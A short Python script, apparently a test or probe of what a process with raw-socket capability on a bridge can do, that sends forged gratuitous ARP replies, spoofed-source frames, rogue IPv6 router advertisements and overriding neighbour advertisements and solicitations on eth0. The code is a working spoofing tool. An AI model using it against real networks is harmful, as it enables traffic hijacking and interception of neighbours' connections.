# spoof.py arp IP | frame MAC | ra | na IP | ns IP MAC
#
# What a process with CAP_NET_RAW on a bridge can claim to its
# neighbours, each written straight onto eth0:
# arp: a gratuitous ARP reply saying IP is at eth0's address (target
# and sender the same, so that it overrides what the neighbours know).
# frame: a broadcast frame from MAC (the bridge learns MAC on our port).
# ra: a router advertisement to all nodes (we are a default router).
# na: an unsolicited, overriding neighbour advertisement saying IP is at
# eth0's address.
# ns: a neighbour solicitation for IP from our own address, saying that
# is at MAC.
import socket, struct, sys

mode = sys.argv[1]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(('eth0', 0))
mine = raw.getsockname()[4]
bcast = b'\xff' * 6

if mode == 'arp':
    ip = socket.inet_aton(sys.argv[2])
    arp = struct.pack('!HHBBH', 1, 0x0800, 6, 4, 2) + mine + ip + mine + ip
    raw.send(bcast + mine + b'\x08\x06' + arp)
elif mode == 'frame':
    mac = bytes.fromhex(sys.argv[2].replace(':', ''))
    raw.send(bcast + mac + b'\x88\xb5' + b'spoofed-source'.ljust(46, b'\0'))
else:
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    lladdr = bytes([2 if mode == 'na' else 1, 1]) + mine
    if mode == 'ns':
        lladdr = lladdr[:2] + bytes.fromhex(sys.argv[3].replace(':', ''))
        target = socket.inet_pton(socket.AF_INET6, sys.argv[2])
        solicited = socket.inet_ntop(socket.AF_INET6, bytes.fromhex('ff0200000000000000000001ff') + target[13:])
        s.sendto(struct.pack('!BBHI', 135, 0, 0, 0) + target + lladdr, (solicited, 0, 0, socket.if_nametoindex('eth0')))
        sys.exit()
    if mode == 'ra':
        # hop limit 64, no flags, router lifetime 1800 s
        msg = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + lladdr
    else:
        target = socket.inet_pton(socket.AF_INET6, sys.argv[2])
        msg = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + target + lladdr
    s.sendto(msg, ('ff02::1', 0, 0, socket.if_nametoindex('eth0')))
